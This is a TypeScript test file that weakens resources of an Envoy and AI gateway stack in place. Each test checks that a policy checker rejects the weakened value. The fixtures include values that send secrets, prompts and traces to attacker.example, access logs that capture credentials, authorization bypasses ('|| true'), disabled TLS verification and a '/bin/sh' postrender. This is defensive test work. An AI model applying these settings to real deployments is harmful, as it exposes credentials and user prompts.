/* eslint-disable @typescript-eslint/no-unsafe-member-access, @typescript-eslint/no-unsafe-assignment, @typescript-eslint/no-unsafe-call --
   a trial reaches anywhere into the inputs of any type, which no type of the SDK describes: most are of custom kinds. */
import { beforeAll, describe, expect, test } from "vitest";
import { formatPath } from "../../policies/kit/path.ts";
import { ShapeJudge } from "../../policies/shapes/shapes.ts";
import type { World } from "../../policies/shapes/world.ts";
import type { StackGraph } from "../../policies/kit/graph.ts";
import type { ResourceRecord } from "../../preview/engine/resource-record.ts";
import { recordsOf } from "../holes/stack-records.ts";
import { worldOf } from "./misfits-in.ts";

/** Plain inputs, as far as a trial changes them. */
type Json = any; // eslint-disable-line @typescript-eslint/no-explicit-any -- a trial reaches anywhere into the inputs of any type

/** A resource of a real stack, weakened in place. */
interface Trial {
    readonly type: string;
    readonly name?: string;
    readonly weaken: (inputs: Json) => void;
    /** Where the shape has to object. */
    readonly at: string;
}

const envoy = "kubernetes:gateway.envoyproxy.io/v1alpha1:";
const gatewayApi = "kubernetes:gateway.networking.k8s.io/v1:";
const ai = "kubernetes:aigateway.envoyproxy.io/v1beta1:";
const release = "kubernetes:helm.sh/v3:Release";
const attacker = "attacker.example";

const trials: Readonly<Record<string, Trial>> = {
    "a body in the access log": {
        type: `${envoy}EnvoyProxy`,
        weaken: ({ spec }) => {
            spec.telemetry.accessLog.settings[0].format.json.prompt =
                "%DYNAMIC_METADATA(ringfence.audit:request:body)%";
        },
        at: "spec.telemetry.accessLog.settings[0].format.json.prompt",
    },
    "a credential in the access log": {
        type: `${envoy}EnvoyProxy`,
        weaken: ({ spec }) => {
            spec.telemetry.accessLog.settings[0].format.json.who = "%REQ(authorization)%";
        },
        at: "spec.telemetry.accessLog.settings[0].format.json.who",
    },
    "an expression in the access log that reads a header": {
        type: `${envoy}EnvoyProxy`,
        weaken: ({ spec }) => {
            spec.telemetry.accessLog.settings[0].format.json.who = "%CEL(request.headers['authorization'])%";
        },
        at: "spec.telemetry.accessLog.settings[0].format.json.who",
    },
    "two words in one field of the access log": {
        type: `${envoy}EnvoyProxy`,
        weaken: ({ spec }) => {
            spec.telemetry.accessLog.settings[0].format.json.who = "%DURATION% %DOWNSTREAM_REMOTE_ADDRESS%";
        },
        at: "spec.telemetry.accessLog.settings[0].format.json.who",
    },
    "arguments that make Envoy print bodies": {
        type: `${envoy}EnvoyProxy`,
        weaken: ({ spec }) => {
            spec.extraArgs = ["--component-log-level", "http:trace,lua:trace"];
        },
        at: "spec.extraArgs",
    },
    "traces to a vendor": {
        type: `${envoy}EnvoyProxy`,
        weaken: ({ spec }) => {
            spec.telemetry.tracing = { provider: { type: "OpenTelemetry", host: `otlp.${attacker}` } };
        },
        at: "spec.telemetry.tracing",
    },
    "a balancer of the proxies' own": {
        type: `${envoy}EnvoyProxy`,
        weaken: ({ spec }) => {
            spec.provider.kubernetes.envoyService.type = "LoadBalancer";
        },
        at: "spec.provider.kubernetes.envoyService.type",
    },
    "a patch that puts another container into the proxies' pods": {
        type: `${envoy}EnvoyProxy`,
        weaken: ({ spec }) => {
            spec.provider.kubernetes.envoyDeployment.patch.value.spec.template.spec.containers = [{ name: "x" }];
        },
        at: "spec.provider.kubernetes.envoyDeployment.patch.value.spec.template.spec.containers",
    },
    "a line in the class filter that logs bodies": {
        type: `${envoy}EnvoyExtensionPolicy`,
        weaken: ({ spec }) => {
            spec.lua[0].inline = String(spec.lua[0].inline).replace(
                "  local headers = handle:headers()\n  set_waits",
                "  handle:logErr(handle:body():getBytes(0, 9999))\n  local headers = handle:headers()\n  set_waits",
            );
        },
        at: "spec.lua[0].inline",
    },
    "a second function behind the class filter": {
        type: `${envoy}EnvoyExtensionPolicy`,
        weaken: ({ spec }) => {
            spec.lua[0].inline =
                String(spec.lua[0].inline) +
                "\nfunction envoy_on_response(handle) handle:logErr(handle:body():getBytes(0, 9)) end\n";
        },
        at: "spec.lua[0].inline",
    },
    "a table of the class filter that lets a class leave which nobody declared": {
        type: `${envoy}EnvoyExtensionPolicy`,
        weaken: ({ spec }) => {
            spec.lua[0].inline = String(spec.lua[0].inline).replace(
                /local may_leave = \{.*\}/,
                'local may_leave = { ["everything"] = true }',
            );
        },
        at: "spec.lua[0].inline",
    },
    "a table of the class filter that turns the ranks around": {
        type: `${envoy}EnvoyExtensionPolicy`,
        weaken: ({ spec }) => {
            spec.lua[0].inline = String(spec.lua[0].inline).replace('["personal"] = 3', '["personal"] = 1');
        },
        at: "spec.lua[0].inline",
    },
    "a call in a table of the class filter": {
        type: `${envoy}EnvoyExtensionPolicy`,
        weaken: ({ spec }) => {
            spec.lua[0].inline = String(spec.lua[0].inline).replace(
                "local strictest = 5",
                "local strictest = os.time()",
            );
        },
        at: "spec.lua[0].inline",
    },
    "a second script": {
        type: `${envoy}EnvoyExtensionPolicy`,
        weaken: ({ spec }) => {
            spec.lua.push({ type: "Inline", inline: "function envoy_on_request(handle) end" });
        },
        at: "spec.lua[1].inline",
    },
    "another server that sees requests": {
        type: `${envoy}EnvoyExtensionPolicy`,
        weaken: ({ spec }) => {
            spec.extProc = [{ backendRefs: [{ name: "collector", port: 9000 }] }];
        },
        at: "spec.extProc",
    },
    "a foreign issuer": {
        type: `${envoy}SecurityPolicy`,
        name: "identity",
        weaken: ({ spec }) => {
            spec.jwt.providers[0].issuer = `https://login.${attacker}/`;
        },
        at: "spec.jwt.providers[0].issuer",
    },
    "keys of a user pool of somebody's": {
        type: `${envoy}SecurityPolicy`,
        name: "identity",
        weaken: ({ spec }) => {
            spec.jwt.providers[0].remoteJWKS.uri =
                "https://cognito-idp.eu-central-1.amazonaws.com/eu-central-1_x/.well-known/jwks.json";
        },
        at: "spec.jwt.providers[0].remoteJWKS.uri",
    },
    "requests without a token": {
        type: `${envoy}SecurityPolicy`,
        name: "identity",
        weaken: ({ spec }) => {
            spec.jwt.optional = true;
        },
        at: "spec.jwt.optional",
    },
    "a rule that lets in every address": {
        type: `${envoy}SecurityPolicy`,
        name: "identity",
        weaken: ({ spec }) => {
            spec.authorization.rules[0] = {
                action: "Allow",
                name: "all",
                principal: { clientCIDRs: ["0.0.0.0/0"] },
            };
        },
        at: "spec.authorization.rules[0].cel",
    },
    "an expression that is always true": {
        type: `${envoy}SecurityPolicy`,
        name: "identity",
        weaken: ({ spec }) => {
            spec.authorization.rules[0].cel = "true";
        },
        at: "spec.authorization.rules[0].cel",
    },
    "an expression with a way around its end": {
        type: `${envoy}SecurityPolicy`,
        name: "identity",
        weaken: ({ spec }) => {
            spec.authorization.rules[0].cel = String(spec.authorization.rules[0].cel) + " || true";
        },
        at: "spec.authorization.rules[0].cel",
    },
    "what browsers of any page may ask": {
        type: `${envoy}SecurityPolicy`,
        name: "identity",
        weaken: ({ spec }) => {
            spec.cors = { allowOrigins: ["*"] };
        },
        at: "spec.cors",
    },
    "a class check that lets everything leave": {
        type: `${envoy}SecurityPolicy`,
        name: "class-check",
        weaken: ({ spec }) => {
            spec.authorization.rules = [{ action: "Allow", name: "all", principal: { clientCIDRs: ["0.0.0.0/0"] } }];
        },
        at: "spec.authorization.rules[0].principal.headers",
    },
    "a class check that asks for no class": {
        type: `${envoy}SecurityPolicy`,
        name: "class-check",
        weaken: ({ spec }) => {
            spec.authorization.rules[0].principal.headers.pop();
        },
        at: "spec.authorization.rules[0].principal.headers",
    },
    "a default that allows": {
        type: `${envoy}SecurityPolicy`,
        name: "class-check",
        weaken: ({ spec }) => {
            spec.authorization.defaultAction = "Allow";
        },
        at: "spec.authorization.defaultAction",
    },
    "a listener in clear": {
        type: `${gatewayApi}Gateway`,
        weaken: ({ spec }) => {
            spec.listeners[0].protocol = "HTTP";
        },
        at: "spec.listeners[0].protocol",
    },
    "a second listener": {
        type: `${gatewayApi}Gateway`,
        weaken: ({ spec }) => {
            spec.listeners.push({ ...spec.listeners[0], name: "plain", protocol: "HTTP", port: 80 });
        },
        at: "spec.listeners",
    },
    "routes of every namespace": {
        type: `${gatewayApi}Gateway`,
        weaken: ({ spec }) => {
            spec.listeners[0].allowedRoutes.namespaces.from = "All";
        },
        at: "spec.listeners[0].allowedRoutes.namespaces.from",
    },
    "old TLS": {
        type: `${envoy}ClientTrafficPolicy`,
        weaken: ({ spec }) => {
            spec.tls.minVersion = "1.0";
        },
        at: "spec.tls.minVersion",
    },
    "trusted headers of a caller": {
        type: `${envoy}ClientTrafficPolicy`,
        name: "door",
        weaken: ({ spec }) => {
            delete spec.headers.earlyRequestHeaders;
        },
        at: "spec.headers.earlyRequestHeaders",
    },
    "a class of the load balancers' controller": {
        type: `${gatewayApi}GatewayClass`,
        weaken: ({ spec }) => {
            spec.controllerName = "gateway.k8s.aws/nlb";
        },
        at: "spec.controllerName",
    },
    "a backend whose certificate nobody checks": {
        type: `${envoy}Backend`,
        name: "mistral",
        weaken: ({ spec }) => {
            spec.tls = { insecureSkipVerify: true };
        },
        at: "spec.tls",
    },
    "a backend that is not declared": {
        type: `${envoy}Backend`,
        name: "mistral",
        weaken: ({ spec }) => {
            spec.endpoints[0].fqdn.hostname = `api.${attacker}`;
        },
        at: "spec.endpoints[0].fqdn.hostname",
    },
    "a processor behind the front": {
        type: `${envoy}Backend`,
        name: "fleet-llama-70b",
        weaken: ({ spec }) => {
            spec.endpoints[0].fqdn = { hostname: "api.eu.mistral.ai", port: 443 };
        },
        at: "spec.endpoints[0].fqdn.hostname",
    },
    "a backend by its address": {
        type: `${envoy}Backend`,
        name: "mistral",
        weaken: ({ spec }) => {
            spec.endpoints.push({ ip: { address: "203.0.113.7", port: 443 } });
        },
        at: "spec.endpoints",
    },
    "a foreign authority": {
        type: `${gatewayApi}BackendTLSPolicy`,
        name: "mistral",
        weaken: ({ spec }) => {
            spec.validation = {
                caCertificateRefs: [{ group: "", kind: "ConfigMap", name: "ca" }],
                hostname: `api.${attacker}`,
            };
        },
        at: "spec.validation.caCertificateRefs[0].kind",
    },
    "the name of another processor": {
        type: `${gatewayApi}BackendTLSPolicy`,
        name: "mistral",
        weaken: ({ spec }) => {
            spec.validation.hostname = "bedrock-runtime.eu-central-1.amazonaws.com";
        },
        at: "spec.validation.hostname",
    },
    "an answer that leads a caller elsewhere": {
        type: `${envoy}BackendTrafficPolicy`,
        name: "resilience",
        weaken: ({ spec }) => {
            spec.responseOverride ??= [];
            spec.responseOverride.push({
                match: { statusCodes: [{ type: "Value", value: 503 }] },
                redirect: { hostname: `api.${attacker}`, statusCode: 307 },
            });
        },
        at: "spec.responseOverride",
    },
    "backends that are told who called": {
        type: `${envoy}BackendTrafficPolicy`,
        name: "resilience",
        weaken: ({ spec }) => {
            spec.proxyProtocol = { version: "V2" };
        },
        at: "spec.proxyProtocol",
    },
    "a redirect of a route": {
        type: `${gatewayApi}HTTPRoute`,
        name: "route-routine",
        weaken: ({ spec }) => {
            spec.rules[0].filters.push({ type: "RequestRedirect", requestRedirect: { hostname: `x.${attacker}` } });
        },
        at: "spec.rules[0].filters",
    },
    "a route that takes the caller's credential along": {
        type: `${gatewayApi}HTTPRoute`,
        name: "route-routine",
        weaken: ({ spec }) => {
            const { requestHeaderModifier } = spec.rules[0].filters[0];
            requestHeaderModifier.remove = requestHeaderModifier.remove.filter(
                (each: string) => each !== "authorization",
            );
        },
        at: "spec.rules[0].filters[0].requestHeaderModifier.remove",
    },
    "a body that makes a processor keep the prompt": {
        type: `${ai}AIServiceBackend`,
        weaken: ({ spec }) => {
            spec.bodyMutation = { set: [{ path: "store", value: "true" }] };
        },
        at: "spec.bodyMutation",
    },
    "a body of a rule that makes a processor keep the prompt": {
        type: `${ai}AIGatewayRoute`,
        weaken: ({ spec }) => {
            spec.rules[0].backendRefs[0].bodyMutation = { set: [{ path: "store", value: "true" }] };
        },
        at: "spec.rules[0].backendRefs[0].bodyMutation",
    },
    "a profile that answers abroad": {
        type: `${ai}AIGatewayRoute`,
        name: "route-hard",
        weaken: ({ spec }) => {
            spec.rules[0].backendRefs[0].modelNameOverride = "us.anthropic.claude-sonnet-5";
        },
        at: "spec.rules[0].backendRefs[0].modelNameOverride",
    },
    "a credential of another region": {
        type: `${ai}BackendSecurityPolicy`,
        name: "bedrock",
        weaken: ({ spec }) => {
            spec.awsCredentials.region = "us-east-1";
        },
        at: "spec.awsCredentials.region",
    },
    "a certificate of a public authority": {
        type: "kubernetes:cert-manager.io/v1:Certificate",
        weaken: ({ spec }) => {
            spec.issuerRef = { group: "cert-manager.io", kind: "ClusterIssuer", name: "letsencrypt" };
        },
        at: "spec.issuerRef.group",
    },
    "a store that sends secrets to a host": {
        type: "kubernetes:external-secrets.io/v1:SecretStore",
        weaken: ({ spec }) => {
            spec.provider.webhook = { url: `https://${attacker}`, method: "POST" };
        },
        at: "spec.provider.webhook",
    },
    "a store of another region": {
        type: "kubernetes:external-secrets.io/v1:SecretStore",
        weaken: ({ spec }) => {
            spec.provider.aws.region = "us-east-1";
        },
        at: "spec.provider.aws.region",
    },
    "a store with the role of another account": {
        type: "kubernetes:external-secrets.io/v1:SecretStore",
        weaken: ({ spec }) => {
            spec.provider.aws.role = "arn:aws:iam::999988887777:role/x";
        },
        at: "spec.provider.aws.role",
    },
    "a secret of another account": {
        type: "kubernetes:external-secrets.io/v1:ExternalSecret",
        weaken: ({ spec }) => {
            spec.data[0].remoteRef.key = "arn:aws:secretsmanager:eu-central-1:999988887777:secret:x";
        },
        at: "spec.data[0].remoteRef.key",
    },
    "a trigger that asks a vendor": {
        type: "kubernetes:keda.sh/v1alpha1:ScaledObject",
        weaken: ({ spec }) => {
            spec.triggers[0].metadata.serverAddress = `https://prom.${attacker}`;
        },
        at: "spec.triggers[0].metadata.serverAddress",
    },
    "a binding that opens security groups": {
        type: "kubernetes:elbv2.k8s.aws/v1beta1:TargetGroupBinding",
        weaken: ({ spec }) => {
            spec.networking = { ingress: [{ from: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }] };
        },
        at: "spec.networking",
    },
    "patches of Envoy's configuration": chart(
        "front",
        "values.config.envoyGateway.extensionApis.enableEnvoyPatchPolicy",
        (values) => {
            values.config.envoyGateway.extensionApis.enableEnvoyPatchPolicy = true;
        },
    ),
    "an extension that is told all routes": chart("front", "values.config.envoyGateway.extensionManager", (values) => {
        values.config.envoyGateway.extensionManager = {
            hooks: { xdsTranslator: { post: ["Translation"] } },
            service: { fqdn: { hostname: `xds.${attacker}`, port: 443 } },
        };
    }),
    "another extension on the way out": chart(
        "egress",
        "values.config.envoyGateway.extensionManager.service.fqdn.hostname",
        (values) => {
            values.config.envoyGateway.extensionManager.service.fqdn.hostname = `xds.${attacker}`;
        },
    ),
    "counters of somebody else": chart("front", "values.config.envoyGateway.rateLimit.backend.redis.url", (values) => {
        values.config.envoyGateway.rateLimit.backend.redis.url = `redis.${attacker}:6379`;
    }),
    "a controller that prints configuration": chart(
        "front",
        "values.config.envoyGateway.logging.level.default",
        (values) => {
            values.config.envoyGateway.logging.level.default = "debug";
        },
    ),
    "prompts in the processor's log": chart("ai-gateway", "values.extProc.enableRedaction", (values) => {
        values.extProc.enableRedaction = false;
    }),
    "a processor that prints requests": chart("ai-gateway", "values.extProc.logLevel", (values) => {
        values.extProc.logLevel = "debug";
    }),
    "traces of prompts to a vendor": chart("ai-gateway", "values.extProc.extraEnvVars[0].name", (values) => {
        values.extProc.extraEnvVars[0] = { name: "OTEL_EXPORTER_OTLP_ENDPOINT", value: `https://otlp.${attacker}` };
    }),
    "one variable less that hides prompts": chart("ai-gateway", "values.extProc.extraEnvVars", (values) => {
        values.extProc.extraEnvVars.splice(2, 1);
    }),
    "a proxy for all secrets": chart("external-secrets", "values.extraEnv", (values) => {
        values.extraEnv.push({ name: "HTTPS_PROXY", value: `http://proxy.${attacker}:3128` });
    }),
    "secrets that are written out": chart("external-secrets", "values.processPushSecret", (values) => {
        values.processPushSecret = true;
    }),
    "objects beside a chart's own": chart("external-secrets", "values.extraObjects", (values) => {
        values.extraObjects = [{ apiVersion: "v1", kind: "Service" }];
    }),
    "the network of the nodes": chart("external-secrets", "values.hostNetwork", (values) => {
        values.hostNetwork = true;
    }),
    "balancers that face the internet": chart(
        "aws-load-balancer-controller",
        "values.defaultLoadBalancerScheme",
        (values) => {
            values.defaultLoadBalancerScheme = "internet-facing";
        },
    ),
    "balancers for every Service": chart(
        "aws-load-balancer-controller",
        "values.controllerConfig.featureGates.EnableServiceController",
        (values) => {
            values.controllerConfig.featureGates = {};
        },
    ),
    "resolvers outside": chart("cert-manager", "values.extraArgs", (values) => {
        values.extraArgs = ["--dns01-recursive-nameservers=8.8.8.8:53"];
    }),
    "a proxy for certificates": chart("cert-manager", "values.http_proxy", (values) => {
        values.http_proxy = `http://proxy.${attacker}:3128`;
    }),
    "telemetry of the autoscaler": chart("keda", "values.opentelemetry", (values) => {
        values.opentelemetry = { collector: { uri: `https://otlp.${attacker}` } };
    }),
    "a command that changes what a chart renders": {
        type: release,
        name: "keda",
        weaken: (inputs) => {
            inputs.postrender = "/bin/sh";
        },
        at: "postrender",
    },
    "a chart of another registry": {
        type: release,
        name: "keda",
        weaken: (inputs) => {
            inputs.chart = "oci://ghcr.io/attacker/keda-helm";
        },
        at: "chart",
    },
    "another version of a chart": {
        type: release,
        name: "keda",
        weaken: (inputs) => {
            inputs.version = "2.99.0";
        },
        at: "version",
    },
};

/** Values of a release that are weakened. */
function chart(name: string, at: string, weaken: (values: Json) => void): Trial {
    return {
        type: release,
        name,
        at,
        weaken: ({ values }) => {
            weaken(values);
        },
    };
}

describe("of hybrid-eu", () => {
    let records: readonly ResourceRecord[] = [];
    let world: World & { readonly stack: StackGraph };
    beforeAll(async () => {
        records = await recordsOf("hybrid-eu");
        world = worldOf("hybrid-eu", records);
    });

    test.each(Object.entries(trials))("the shapes refuse %s, where it stands", (_, { type, name, weaken, at }) => {
        const record = records.find((it) => it.type === type && (name === undefined || nameOf(it) === name));
        const resource = world.stack.resources.find(({ urn }) => urn === record?.urn);
        if (record === undefined || resource === undefined) throw new Error(`no ${name ?? "resource"} of ${type}`);
        const judge = new ShapeJudge(world);
        const pathsOf = (inputs: object) => judge.misfits(type, inputs, resource).map(({ path }) => formatPath(path));
        const inputs = structuredClone(record.inputs);
        expect(pathsOf(inputs)).toEqual([]);
        weaken(inputs);
        expect(
            pathsOf(inputs).some((path) => path === at || path.startsWith(`${at}[`) || path.startsWith(`${at}.`)),
        ).toBe(true);
    });
});

/** Name of an object, or of a release. */
function nameOf({ inputs }: ResourceRecord): unknown {
    const { metadata, name } = inputs as Json;
    return metadata?.name ?? name;
}
